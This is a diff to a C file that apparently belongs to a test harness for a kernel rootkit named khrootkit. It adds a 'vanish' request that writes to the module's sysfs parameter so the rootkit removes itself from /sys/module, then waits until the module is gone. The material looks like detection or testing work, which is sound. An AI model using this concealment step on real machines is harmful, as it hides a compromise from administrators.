@@ -2120,6 +2120,34 @@ static void hidden_main(int wfd)
 }
 
 /*
+ * "vanish": after "rootkit", khrootkit takes its kobject out of sysfs
+ * (writes its vanish parameter); "ok" once /sys/module/khrootkit is gone
+ * (10 s at most).
+ */
+static void req_vanish(void)
+{
+	int fd = open(ROOTKIT_SYS "/parameters/vanish", O_WRONLY | O_CLOEXEC);
+	struct timespec nap = { 0, 50 * 1000 * 1000 };
+	int i;
+
+	if (fd < 0 || write(fd, "1", 1) != 1) {
+		fprintf(out, "error %s/parameters/vanish: %s\n", ROOTKIT_SYS,
+			strerror(errno));
+		if (fd >= 0)
+			close(fd);
+		return;
+	}
+	close(fd);
+	for (i = 0; i < 200 && !access(ROOTKIT_SYS, F_OK); i++)
+		nanosleep(&nap, NULL);
+	if (!access(ROOTKIT_SYS, F_OK)) {
+		fprintf(out, "error %s is still there\n", ROOTKIT_SYS);
+		return;
+	}
+	fprintf(out, "ok\n");
+}
+
+/*
  * "calm": kh-hidden stops spinning (SIGUSR1, sent through its pid, which
  * the rootkit left in the IDR) and sleeps from now on; "ok".
  */
@@ -2536,6 +2564,8 @@ static void handle(char *req)
 		req_rootkit();
 	else if (!strcmp(req, "calm"))
 		req_calm();
+	else if (!strcmp(req, "vanish"))
+		req_vanish();
 	else if (!strcmp(req, "bpf-load"))
 		req_bpf_load();
 	else if (!strcmp(req, "bpf"))
